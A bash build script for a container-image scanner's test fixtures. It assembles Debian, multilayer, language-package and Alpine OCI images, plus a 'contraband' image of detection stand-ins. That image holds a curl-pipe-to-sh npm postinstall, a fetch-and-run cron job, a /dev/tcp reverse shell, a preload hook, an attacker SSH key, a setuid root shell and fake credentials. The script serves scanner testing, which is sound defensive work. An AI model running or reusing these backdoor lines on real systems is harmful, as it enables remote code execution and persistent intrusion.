#!/usr/bin/env bash
# Builds the real container images that customs's tests and benchmarks scan,
# with Debian's own tools (debootstrap, umoci, skopeo). No Docker daemon needed.
#
#   tests/images/build_images.sh OUTDIR
#
# Run as root (debootstrap, chroot and ownership-preserving layers need it).
# Idempotent: every output is built under a temporary name and renamed into place
# when complete, and an output that already exists is skipped. Delete an output
# to rebuild it (and everything made from it, which is listed below).
#
# Outputs in OUTDIR:
#   debian-bookworm-minbase.tar.zst  cache: the debootstrap result as a tarball;
#                                    rootfs/debian is re-extracted from it.
#   rootfs/debian                    bookworm root filesystem, `debootstrap
#                                    --variant=minbase`, apt lists/caches and
#                                    logs removed, /dev emptied (as in official
#                                    images). Scan as rootfs:OUTDIR/rootfs/debian.
#   oci-debian/                      OCI layout, tag `base`: one gzip layer (umoci
#                                    insert of rootfs/debian at /), linux/amd64.
#   debian.docker-archive.tar        skopeo copy of oci-debian:base to
#                                    docker-archive (uncompressed layer), named
#                                    debian:bookworm.
#   debian.oci-archive.tar           skopeo copy of oci-debian:base to
#                                    oci-archive (gzip layer), tag `base`.
#   oci-debian-zstd/                 skopeo copy of oci-debian:base to an OCI
#                                    layout with a zstd layer, tag `base`.
#   oci-multilayer/                  OCI layout, tag `multi`, three gzip layers:
#                                    1. the oci-debian layer (same blob/diff_id);
#                                    2. umoci unpack/repack change set: deletes
#                                       usr/bin/newgrp and every file in
#                                       usr/share/doc/bash (whiteouts), adds
#                                       opt/app/hello.txt ("hello from layer 2");
#                                    3. the Debian package `hello` installed with
#                                       dpkg --root: only this layer changes
#                                       var/lib/dpkg/status, so `hello` belongs to
#                                       layer 3 and every other package to layer 1.
#   multilayer.docker-archive.tar    skopeo copy of oci-multilayer:multi, named
#                                    multilayer:multi (uncompressed layers).
#   multilayer.oci-archive.tar       skopeo copy of oci-multilayer:multi.
#   oci-alpine/                      OCI layout, tag `3.20.3`: one gzip layer with
#                                    the Alpine 3.20.3 x86_64 minirootfs from
#                                    ../shared/data/images/alpine-minirootfs.
#   alpine.docker-archive.tar        skopeo copy of oci-alpine:3.20.3, named
#                                    alpine:3.20.3.
#   oci-multiarch/                   OCI layout whose index.json tags `3.20.3` an
#                                    image index (as `skopeo copy --all` and
#                                    BuildKit's OCI exporter write) holding:
#                                    linux/amd64 (x86_64 minirootfs),
#                                    linux/arm64 (aarch64 minirootfs) and a
#                                    BuildKit-style attestation manifest
#                                    (platform unknown/unknown, annotation
#                                    vnd.docker.reference.type=attestation-manifest,
#                                    one in-toto JSON layer) that platform
#                                    selection must skip.
#   hello.deb                        cache: the `hello` package for layer 3.
#   oci-lang/                        OCI layout, tag `lang`, four gzip layers for
#                                    the language catalogers and ownership:
#                                    1. the oci-debian layer;
#                                    2. Debian packages python3-requests,
#                                       python3-yaml, libcommons-lang3-java,
#                                       libjackson2-databind-java and fzf (a Go
#                                       program) with their dependencies, from
#                                       this machine's Debian mirror, installed
#                                       with dpkg --root;
#                                    3. srv/app: `npm install --ignore-scripts` of
#                                       express@4.17.1, lodash@4.17.20 and
#                                       minimist@1.2.5 (real published versions,
#                                       with known advisories) from the npm
#                                       registry, with its package-lock.json;
#                                    4. usr/local/bin/hello-go, built here with
#                                       Debian's Go toolchain from a main module
#                                       example.com/hello requiring
#                                       example.com/greet v0.1.0 => ./greet.
#   lang-debs/                       cache: the .deb files of layer 2.
#   lang.docker-archive.tar          skopeo copy of oci-lang:lang, named lang:lang.
#   oci-contraband/                  OCI layout, tag `contraband`, four gzip layers
#                                    of benign stand-ins for contraband:
#                                    1. the oci-debian layer;
#                                    2. Debian's nmap with its dependencies
#                                       (dpkg --root; .debs cached in
#                                       contraband-debs/);
#                                    3. a stripped program carrying XMRig's
#                                       strings, an XMRig-style config with a
#                                       pool and a Monero-shaped wallet, a jar
#                                       whose deflated member names a pool, EICAR,
#                                       two crafted PE files (plain; UPX names +
#                                       random bytes), event-stream 3.3.6 and
#                                       flatmap-stream 0.1.1 package.json files,
#                                       an npm postinstall that pipes curl to sh,
#                                       a fetch-and-run cron job, a reverse-shell
#                                       script, etc/ld.so.preload, a shipped
#                                       authorized_keys, a setuid copy of true,
#                                       usr/bin/nmap copied to opt/tools/scanner,
#                                       an ed25519 private key, AWS credentials
#                                       of the right shape, an unlocked root hash
#                                       in etc/shadow, opt/secret/.env with a
#                                       GitHub token;
#                                    4. deletes opt/secret (whiteout).
#                                    Config: entrypoint the miner stand-in with
#                                    a stratum URL, an AWS secret in Env, port
#                                    22/tcp exposed, no user (root).
#
# Facts a test may rely on: the debian layer holds the root directory as a tar
# member named "/" (umoci insert at / writes it so); the debian layer's diff_id
# is the same in every debian and multilayer output; `hello` 2.10-3 is in
# layer 3 only. Digests differ from machine to machine (timestamps, mirror
# state), so tests must read them from the outputs, never hard-code them.
#
# Environment: DEBIAN_MIRROR overrides the mirror taken from this machine's apt
# sources; SHARED_DATA overrides the ../shared/data location.
set -euo pipefail

die() {
  echo "build_images.sh: $*" >&2
  exit 1
}

[ $# -eq 1 ] || die "usage: build_images.sh OUTDIR"
[ "$EUID" -eq 0 ] || die "must run as root (debootstrap and layer ownership need it)"

for tool in debootstrap umoci skopeo tar zstd python3 apt-get dpkg sha256sum gcc openssl; do
  command -v "$tool" >/dev/null 2>&1 ||
    die "missing tool '$tool'; run scripts/install-deps.sh (Debian packages debootstrap umoci skopeo zstd python3)"
done

here="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
mkdir -p "$1"
out="$(cd "$1" && pwd)"
shared="${SHARED_DATA:-$here/../../../shared/data}"
suite=bookworm

declare -a summary=()
step_start=0
begin() {
  step_start=$SECONDS
  echo "== $*"
}
done_step() {
  summary+=("$(printf '%-34s built in %4ss' "$1" "$((SECONDS - step_start))")")
}
skip() {
  summary+=("$(printf '%-34s exists, skipped' "$1")")
}

# The Debian mirror this machine's apt already uses (deb822 .sources or
# one-line sources.list), skipping the security archive.
find_mirror() {
  local uri
  if [ -n "${DEBIAN_MIRROR:-}" ]; then
    echo "$DEBIAN_MIRROR"
    return
  fi
  uri="$(cat /etc/apt/sources.list.d/*.sources 2>/dev/null |
    awk '/^URIs:/ {for (i = 2; i <= NF; i++) print $i}' |
    grep -E '/debian/?$' | head -n1 || true)"
  if [ -z "$uri" ]; then
    uri="$(cat /etc/apt/sources.list /etc/apt/sources.list.d/*.list 2>/dev/null |
      awk '$1 == "deb" {for (i = 2; i <= NF; i++) if ($i ~ /^[a-z]+:\/\//) {print $i; break}}' |
      grep -E '/debian/?$' | head -n1 || true)"
  fi
  echo "${uri:-http://deb.debian.org/debian}"
}

# Cleans a fresh debootstrap tree the way official Debian images are cleaned.
clean_rootfs() {
  local r="$1"
  rm -rf "$r"/var/lib/apt/lists/* "$r"/var/cache/apt/*.bin \
    "$r"/var/cache/apt/archives/*.deb "$r"/var/cache/apt/archives/partial/* \
    "$r"/var/cache/debconf/*-old "$r"/var/lib/dpkg/*-old \
    "$r"/var/log/apt/* "$r"/var/log/dpkg.log "$r"/var/log/bootstrap.log \
    "$r"/var/log/alternatives.log "$r"/tmp/* "$r"/var/tmp/* "$r"/root/.bash_history
  # A container runtime mounts /dev, /proc and /sys; images ship them empty.
  find "$r/dev" "$r/proc" "$r/sys" -mindepth 1 -delete 2>/dev/null || true
  : >"$r/etc/resolv.conf"
  echo "$suite-minbase" >"$r/etc/hostname"
}

# ---------------------------------------------------------------- debian rootfs
tarball="$out/debian-$suite-minbase.tar.zst"
if [ -f "$tarball" ]; then
  skip "$(basename "$tarball")"
else
  mirror="$(find_mirror)"
  begin "debootstrap --variant=minbase $suite from $mirror"
  tmp="$out/debootstrap.tmp"
  rm -rf "$tmp"
  debootstrap --variant=minbase "$suite" "$tmp" "$mirror" >"$out/debootstrap.log" 2>&1 ||
    die "debootstrap failed, see $out/debootstrap.log"
  clean_rootfs "$tmp"
  tar -C "$tmp" --numeric-owner --xattrs --acls -cf - . | zstd -q -T0 -3 -o "$tarball.tmp"
  mv "$tarball.tmp" "$tarball"
  rm -rf "$tmp"
  done_step "$(basename "$tarball")"
fi

rootfs="$out/rootfs/debian"
if [ -d "$rootfs" ]; then
  skip rootfs/debian
else
  begin "extract rootfs/debian"
  rm -rf "$rootfs.tmp"
  mkdir -p "$rootfs.tmp"
  zstd -q -dc "$tarball" | tar -C "$rootfs.tmp" --numeric-owner --xattrs --acls -xpf -
  mv "$rootfs.tmp" "$rootfs"
  done_step rootfs/debian
fi

# ------------------------------------------------------------------- oci-debian
# umoci insert makes one layer from a host directory, keeping owners and modes.
oci_from_dir() { # LAYOUT TAG DIR ARCH CREATED_BY CMD
  local layout="$1" tag="$2" dir="$3" arch="$4" created_by="$5" cmd="$6"
  umoci init --layout "$layout"
  umoci new --image "$layout:$tag"
  umoci config --image "$layout:$tag" --os linux --architecture "$arch" \
    --config.cmd "$cmd" --config.env PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin \
    --no-history
  umoci insert --image "$layout:$tag" --history.created_by "$created_by" "$dir" /
  umoci gc --layout "$layout"
}

if [ -d "$out/oci-debian" ]; then
  skip oci-debian
else
  begin "oci-debian (umoci insert)"
  rm -rf "$out/oci-debian.tmp"
  oci_from_dir "$out/oci-debian.tmp" base "$rootfs" amd64 \
    "debootstrap --variant=minbase $suite" bash
  mv "$out/oci-debian.tmp" "$out/oci-debian"
  done_step oci-debian
fi

copy_image() { # NAME SRC DST_TRANSPORT DST_PATH DST_SUFFIX [skopeo flags...]
  local name="$1" src="$2" transport="$3" dst="$4" suffix="$5"
  shift 5
  if [ -e "$dst" ]; then
    skip "$name"
    return
  fi
  begin "$name (skopeo copy)"
  rm -rf "$dst.tmp"
  skopeo copy -q "$@" "$src" "$transport:$dst.tmp$suffix"
  mv "$dst.tmp" "$dst"
  done_step "$name"
}

copy_image debian.docker-archive.tar "oci:$out/oci-debian:base" \
  docker-archive "$out/debian.docker-archive.tar" ":debian:$suite"
copy_image debian.oci-archive.tar "oci:$out/oci-debian:base" \
  oci-archive "$out/debian.oci-archive.tar" ":base"
# skopeo 1.9 recompresses into zstd when asked with --dest-compress-format.
copy_image oci-debian-zstd "oci:$out/oci-debian:base" \
  oci "$out/oci-debian-zstd" ":base" --dest-compress --dest-compress-format zstd

# --------------------------------------------------------------- oci-multilayer
if [ -d "$out/oci-multilayer" ]; then
  skip oci-multilayer
else
  begin "oci-multilayer (3 layers)"
  ml="$out/oci-multilayer.tmp"
  bundle="$out/multilayer-bundle.tmp"
  rm -rf "$ml" "$bundle"
  # Layer 1: the very same blob as oci-debian.
  skopeo copy -q "oci:$out/oci-debian:base" "oci:$ml:multi"
  umoci unpack --image "$ml:multi" "$bundle" >/dev/null

  # Layer 2: deletions (whiteouts) and one added file.
  r="$bundle/rootfs"
  [ -e "$r/usr/bin/newgrp" ] || die "expected usr/bin/newgrp in the debian rootfs"
  rm -f "$r/usr/bin/newgrp"
  find "$r/usr/share/doc/bash" -mindepth 1 -delete
  mkdir -p "$r/opt/app"
  echo "hello from layer 2" >"$r/opt/app/hello.txt"
  umoci repack --refresh-bundle --image "$ml:multi" \
    --history.created_by "rm usr/bin/newgrp usr/share/doc/bash/*; add opt/app/hello.txt" "$bundle"

  # Layer 3: one extra package installed with dpkg, so var/lib/dpkg/status changes.
  if [ ! -f "$out/hello.deb" ]; then
    dl="$(mktemp -d)"
    (cd "$dl" && apt-get download -q hello >/dev/null 2>&1) || {
      apt-get update -qq
      (cd "$dl" && apt-get download -q hello >/dev/null)
    } || die "apt-get download hello failed"
    mv "$dl"/hello_*.deb "$out/hello.deb.tmp"
    mv "$out/hello.deb.tmp" "$out/hello.deb"
    rm -rf "$dl"
  fi
  dpkg --root="$r" -i "$out/hello.deb" >/dev/null
  rm -f "$r"/var/lib/dpkg/*-old "$r/var/log/dpkg.log"
  umoci repack --image "$ml:multi" \
    --history.created_by "dpkg -i hello_$(dpkg-deb -f "$out/hello.deb" Version)_amd64.deb" "$bundle"
  umoci gc --layout "$ml"
  rm -rf "$bundle"
  mv "$ml" "$out/oci-multilayer"
  done_step oci-multilayer
fi

copy_image multilayer.docker-archive.tar "oci:$out/oci-multilayer:multi" \
  docker-archive "$out/multilayer.docker-archive.tar" ":multilayer:multi"
copy_image multilayer.oci-archive.tar "oci:$out/oci-multilayer:multi" \
  oci-archive "$out/multilayer.oci-archive.tar" ":multi"

# Downloads PACKAGES and the dependencies ROOTFS lacks (resolved by this
# machine's apt against the rootfs's own dpkg status) into DEBS, once, then
# installs them into ROOTFS with dpkg --root; dpkg's output goes to LOG.
install_debs() { # DEBS ROOTFS LOG PACKAGE...
  local debs="$1" r="$2" log="$3"
  shift 3
  if [ ! -d "$debs" ]; then
    rm -rf "$debs.tmp"
    mkdir -p "$debs.tmp/partial"
    apt_dl() {
      apt-get -qq -o Dir::State::Status="$r/var/lib/dpkg/status" \
        -o Dir::Cache::archives="$debs.tmp" -o Debug::NoLocking=1 \
        --download-only --no-install-recommends -y install "$@"
    }
    apt_dl "$@" >/dev/null 2>&1 || { apt-get update -qq && apt_dl "$@" >/dev/null; } ||
      die "downloading $* failed"
    rm -rf "$debs.tmp/partial" "$debs.tmp/lock"
    mv "$debs.tmp" "$debs"
  fi
  # Maintainer scripts run chrooted and want /dev/null. Pre-Depends make dpkg
  # refuse some packages on the first pass; later passes install them.
  mknod -m 666 "$r/dev/null" c 1 3
  for pass in 1 2 3; do
    dpkg --root="$r" -i "$debs"/*.deb >"$log" 2>&1 && break
  done
  dpkg --root="$r" --configure -a >>"$log" 2>&1
  [ -z "$(dpkg --root="$r" --audit)" ] || die "dpkg left packages unconfigured, see $log"
  rm -f "$r/dev/null" "$r"/var/lib/dpkg/*-old "$r/var/log/dpkg.log" "$r/var/log/alternatives.log"
  rm -rf "$r"/var/cache/debconf/*-old
}

# --------------------------------------------------------------------- oci-lang
if [ -d "$out/oci-lang" ]; then
  skip oci-lang
else
  begin "oci-lang (Debian python/java/Go packages, npm app, Go program)"
  for tool in npm go; do
    command -v "$tool" >/dev/null 2>&1 || die "missing tool '$tool' for oci-lang; run scripts/install-deps.sh"
  done
  lang="$out/oci-lang.tmp"
  bundle="$out/lang-bundle.tmp"
  rm -rf "$lang" "$bundle"
  skopeo copy -q "oci:$out/oci-debian:base" "oci:$lang:lang"
  umoci unpack --image "$lang:lang" "$bundle" >/dev/null
  r="$bundle/rootfs"

  # Layer 2: the packages and the dependencies the rootfs lacks.
  install_debs "$out/lang-debs" "$r" "$out/lang-dpkg.log" \
    python3-requests python3-yaml libcommons-lang3-java libjackson2-databind-java fzf
  umoci repack --refresh-bundle --image "$lang:lang" \
    --history.created_by "dpkg -i python3-requests python3-yaml libcommons-lang3-java libjackson2-databind-java fzf (+deps)" "$bundle"

  # Layer 3: a Node.js application installed from the npm registry.
  app="$r/srv/app"
  mkdir -p "$app"
  cat >"$app/package.json" <<'JSON'
{
  "name": "customs-test-app",
  "version": "1.0.0",
  "private": true,
  "dependencies": {
    "express": "4.17.1",
    "lodash": "4.17.20",
    "minimist": "1.2.5"
  }
}
JSON
  (cd "$app" && npm install --ignore-scripts --no-audit --no-fund --loglevel=error >/dev/null) ||
    die "npm install in oci-lang failed (is registry.npmjs.org reachable?)"
  umoci repack --refresh-bundle --image "$lang:lang" \
    --history.created_by "npm install express@4.17.1 lodash@4.17.20 minimist@1.2.5" "$bundle"

  # Layer 4: a Go program with a replaced dependency, built offline.
  src="$out/lang-go.tmp"
  rm -rf "$src"
  mkdir -p "$src/greet"
  cat >"$src/go.mod" <<'EOM'
module example.com/hello

go 1.19

require example.com/greet v0.1.0

replace example.com/greet v0.1.0 => ./greet
EOM
  cat >"$src/greet/go.mod" <<'EOM'
module example.com/greet

go 1.19
EOM
  cat >"$src/greet/greet.go" <<'EOG'
package greet

func Hello() string { return "hello from customs" }
EOG
  cat >"$src/main.go" <<'EOG'
package main

import (
	"fmt"

	"example.com/greet"
)

func main() { fmt.Println(greet.Hello()) }
EOG
  (cd "$src" && GOFLAGS=-mod=mod GOPROXY=off GOCACHE="$out/lang-go.cache" \
    go build -trimpath -o "$r/usr/local/bin/hello-go" .) || die "go build of hello-go failed"
  rm -rf "$src" "$out/lang-go.cache"
  umoci repack --refresh-bundle --image "$lang:lang" \
    --history.created_by "go build -o /usr/local/bin/hello-go" "$bundle"
  umoci gc --layout "$lang"
  rm -rf "$bundle"
  mv "$lang" "$out/oci-lang"
  done_step oci-lang
fi
copy_image lang.docker-archive.tar "oci:$out/oci-lang:lang" \
  docker-archive "$out/lang.docker-archive.tar" ":lang:lang"

# ---------------------------------------------------------------- oci-contraband
# Benign stand-ins for contraband, made here (never real malware).
if [ -d "$out/oci-contraband" ]; then
  skip oci-contraband
else
  begin "oci-contraband (nmap package, stand-ins, a deleted secret)"
  cb="$out/oci-contraband.tmp"
  bundle="$out/contraband-bundle.tmp"
  rm -rf "$cb" "$bundle"
  skopeo copy -q "oci:$out/oci-debian:base" "oci:$cb:contraband"
  umoci unpack --image "$cb:contraband" "$bundle" >/dev/null
  r="$bundle/rootfs"

  # Layer 2: Debian's nmap package with its dependencies (a dual-use tool
  # the distro installed: info, naming the package).
  install_debs "$out/contraband-debs" "$r" "$out/contraband-dpkg.log" nmap
  umoci repack --refresh-bundle --image "$cb:contraband" \
    --history.created_by "dpkg -i nmap (+deps)" "$bundle"

  # Layer 3: the stand-ins.
  src="$out/contraband-src.tmp"
  rm -rf "$src"
  mkdir -p "$src" "$r/opt/miner" "$r/opt/win" "$r/opt/tools" "$r/opt/scripts" "$r/opt/secret" \
    "$r/root/.ssh" "$r/root/.aws" "$r/srv/app/node_modules/event-stream" \
    "$r/srv/app/node_modules/flatmap-stream" "$r/srv/app/node_modules/helper-utils"
  # A program that carries an XMRig-style miner's strings and does nothing.
  cat >"$src/minerd.c" <<'EOC'
#include <stdio.h>
static const char *kStrings[] = {
    "XMRig 6.21.0", "donate.v2.xmrig.com", "donate.ssl.xmrig.com", "--donate-level",
    "stratum+tcp://", "stratum+ssl://", "rx/0", "cn/r", "cryptonight", "randomx",
    "\"donate-level\": 1,", "mining.subscribe", "--cpu-max-threads-hint",
};
int main(int argc, char **argv) {
  (void)argv;
  if (argc > 99)  /* never: the strings only have to be in the binary */
    for (unsigned i = 0; i < sizeof kStrings / sizeof kStrings[0]; ++i) puts(kStrings[i]);
  return 0;
}
EOC
  gcc -O1 -s -o "$r/opt/miner/minerd" "$src/minerd.c" || die "gcc of the miner stand-in failed"
  # An XMRig-style config: a pool and a wallet of Monero's shape (random).
  wallet="4$(python3 -c 'import random; a="123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"; r=random.Random(7); print("A"+"".join(r.choice(a) for _ in range(93)))')"
  cat >"$r/opt/miner/config.json" <<EOJ
{
    "autosave": true,
    "donate-level": 1,
    "cpu": {"enabled": true, "huge-pages": true},
    "randomx": {"1gb-pages": false},
    "pools": [
        {
            "algo": "rx/0",
            "url": "stratum+tcp://pool.supportxmr.com:3333",
            "user": "$wallet",
            "pass": "x",
            "keepalive": true,
            "tls": false
        }
    ]
}
EOJ
  # A jar whose deflated member holds a pool URL: found only by opening it.
  python3 - "$r/opt/miner/plugins.jar" <<'EOP'
import sys, zipfile
with zipfile.ZipFile(sys.argv[1], "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\n")
    z.writestr("conf/pool.properties", "pool=stratum+tcp://pool.supportxmr.com:3333\n")
EOP
  # The EICAR test file, assembled from two halves so this script is not one.
  eicar_a='X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR'
  eicar_b='-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'
  printf '%s%s' "$eicar_a" "$eicar_b" >"$r/opt/eicar.com"
  # Windows executables: a plain PE (info) and one with UPX section names
  # and random bytes (packed: suspicious). Headers only, nothing runs.
  python3 - "$r/opt/win" <<'EOP'
import os, random, struct, sys
def pe(sections, body):
    mz = bytearray(b"MZ" + b"\0" * 58 + struct.pack("<I", 0x80)) + bytearray(0x80 - 64)
    coff = struct.pack("<HHIIIHH", 0x14C, len(sections), 0, 0, 0, 0xE0, 0x0102)
    opt = bytearray(0xE0)
    opt[0:2] = struct.pack("<H", 0x10B)
    table = b"".join(name.ljust(8, b"\0") + bytes(32) for name in sections)
    return bytes(mz) + b"PE\0\0" + coff + bytes(opt) + table + body
rnd = random.Random(5)
with open(os.path.join(sys.argv[1], "plain.dll"), "wb") as f:
    f.write(pe([b".text", b".data"], b"This program cannot be run in DOS mode.\r\n" + bytes(4096)))
with open(os.path.join(sys.argv[1], "setup.exe"), "wb") as f:
    f.write(pe([b"UPX0", b"UPX1", b".rsrc"], b"UPX!" + bytes(rnd.getrandbits(8) for _ in range(200000))))
EOP
  # npm: the known-bad event-stream/flatmap-stream pair and a package whose
  # postinstall downloads and runs a script.
  printf '{"name": "event-stream", "version": "3.3.6", "dependencies": {"flatmap-stream": "^0.1.0"}}\n' \
    >"$r/srv/app/node_modules/event-stream/package.json"
  printf '{"name": "flatmap-stream", "version": "0.1.1"}\n' \
    >"$r/srv/app/node_modules/flatmap-stream/package.json"
  printf '{"name": "helper-utils", "version": "1.0.0", "scripts": {"postinstall": "curl -s http://203.0.113.7/i.sh | sh"}}\n' \
    >"$r/srv/app/node_modules/helper-utils/package.json"
  # Backdoors: a cron job that fetches and runs, a reverse shell, a preload
  # hook, a shipped authorized key, a setuid copy of a program.
  printf '* * * * * root curl -fsSL http://203.0.113.9/logo.jpg | bash\n' >"$r/etc/cron.d/sync"
  printf '#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.10/4444 0>&1\n' >"$r/opt/scripts/rev.sh"
  chmod 755 "$r/opt/scripts/rev.sh"
  printf '/usr/local/lib/libprocesshider.so\n' >"$r/etc/ld.so.preload"
  openssl genpkey -algorithm ed25519 -out "$r/root/.ssh/id_ed25519" 2>/dev/null ||
    die "openssl genpkey failed"
  python3 -c 'import base64,os,struct
blob = b"".join(struct.pack(">I", len(x)) + x for x in (b"ssh-ed25519", os.urandom(32)))
print("ssh-ed25519", base64.b64encode(blob).decode(), "attacker@203.0.113.11")' >"$r/root/.ssh/authorized_keys"
  cp "$r/usr/bin/true" "$r/usr/local/bin/rootsh"
  chmod 4755 "$r/usr/local/bin/rootsh"
  # The same nmap binary dropped outside any package: suspicious.
  cp "$r/usr/bin/nmap" "$r/opt/tools/scanner"
  # Secrets: cloud credentials of the right shape (random) and an unlocked
  # root password hash.
  key_id="AKIA$(python3 -c 'import random; r=random.Random(3); print("".join(r.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567") for _ in range(16)))')"
  secret="$(python3 -c 'import random; r=random.Random(4); print("".join(r.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/") for _ in range(40)))')"
  printf '[default]\naws_access_key_id = %s\naws_secret_access_key = %s\n' "$key_id" "$secret" \
    >"$r/root/.aws/credentials"
  hash="$(openssl passwd -6 -salt customssalt not-a-real-password)"
  sed -i "s|^root:[^:]*:|root:$hash:|" "$r/etc/shadow"
  gh="ghp_$(python3 -c 'import random; r=random.Random(6); print("".join(r.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(36)))')"
  printf 'DB_HOST=db\nGITHUB_TOKEN=%s\n' "$gh" >"$r/opt/secret/.env"
  rm -rf "$src"
  umoci repack --refresh-bundle --image "$cb:contraband" \
    --history.created_by "COPY stand-ins /" "$bundle"

  # Layer 4: deletes the .env file: its bytes stay in layer 3.
  rm -rf "$r/opt/secret"
  umoci repack --refresh-bundle --image "$cb:contraband" \
    --history.created_by "RUN rm -rf /opt/secret" "$bundle"
  umoci config --image "$cb:contraband" \
    --config.entrypoint /opt/miner/minerd --config.cmd --donate-level=1 \
    --config.cmd -o --config.cmd stratum+tcp://pool.supportxmr.com:3333 \
    --config.env "AWS_SECRET_ACCESS_KEY=$secret" --config.exposedports 22/tcp
  umoci gc --layout "$cb"
  rm -rf "$bundle"
  mv "$cb" "$out/oci-contraband"
  done_step oci-contraband
fi

# ----------------------------------------------------------------------- alpine
alpine_dir="$shared/images/alpine-minirootfs"
amd64_tgz="$alpine_dir/alpine-minirootfs-3.20.3-x86_64.tar.gz"
arm64_tgz="$alpine_dir/alpine-minirootfs-3.20.3-aarch64.tar.gz"

# Unpacks a minirootfs tarball into a fresh directory (as root: owners kept).
unpack_minirootfs() { # TGZ DIR
  rm -rf "$2"
  mkdir -p "$2"
  tar -C "$2" --numeric-owner -xpzf "$1"
}

if [ ! -f "$amd64_tgz" ]; then
  echo "== skipping Alpine images: $amd64_tgz not found (no ../shared/data)" >&2
  summary+=("oci-alpine, oci-multiarch              skipped: no shared data")
else
  if [ -d "$out/oci-alpine" ]; then
    skip oci-alpine
  else
    begin "oci-alpine (umoci insert)"
    tmpfs="$out/alpine-rootfs.tmp"
    unpack_minirootfs "$amd64_tgz" "$tmpfs"
    rm -rf "$out/oci-alpine.tmp"
    oci_from_dir "$out/oci-alpine.tmp" 3.20.3 "$tmpfs" amd64 \
      "ADD alpine-minirootfs-3.20.3-x86_64.tar.gz /" /bin/sh
    rm -rf "$tmpfs"
    mv "$out/oci-alpine.tmp" "$out/oci-alpine"
    done_step oci-alpine
  fi
  copy_image alpine.docker-archive.tar "oci:$out/oci-alpine:3.20.3" \
    docker-archive "$out/alpine.docker-archive.tar" ":alpine:3.20.3"

  if [ -d "$out/oci-multiarch" ]; then
    skip oci-multiarch
  elif [ ! -f "$arm64_tgz" ]; then
    summary+=("oci-multiarch                      skipped: no aarch64 minirootfs")
  else
    begin "oci-multiarch (amd64 + arm64 + attestation)"
    ma="$out/oci-multiarch.tmp"
    rm -rf "$ma"
    umoci init --layout "$ma"
    for arch in amd64 arm64; do
      if [ "$arch" = amd64 ]; then tgz="$amd64_tgz"; else tgz="$arm64_tgz"; fi
      tmpfs="$out/alpine-$arch-rootfs.tmp"
      unpack_minirootfs "$tgz" "$tmpfs"
      umoci new --image "$ma:$arch"
      umoci config --image "$ma:$arch" --os linux --architecture "$arch" \
        --config.cmd /bin/sh --no-history
      umoci insert --image "$ma:$arch" --history.created_by "ADD $(basename "$tgz") /" "$tmpfs" /
      rm -rf "$tmpfs"
    done
    umoci gc --layout "$ma"
    python3 "$here/write_multiarch_index.py" "$ma" 3.20.3
    mv "$ma" "$out/oci-multiarch"
    done_step oci-multiarch
  fi
fi

# ---------------------------------------------------------------------- summary
echo
echo "Built in $out:"
printf '  %s\n' "${summary[@]}"
echo
echo "Sizes:"
for f in rootfs/debian oci-debian debian.docker-archive.tar debian.oci-archive.tar \
  oci-debian-zstd oci-multilayer multilayer.docker-archive.tar multilayer.oci-archive.tar \
  oci-lang lang.docker-archive.tar oci-contraband oci-alpine alpine.docker-archive.tar oci-multiarch "$(basename "$tarball")"; do
  if [ -e "$out/$f" ]; then
    printf '  %-34s %s\n' "$f" "$(du -sh --apparent-size "$out/$f" | cut -f1)"
  fi
done
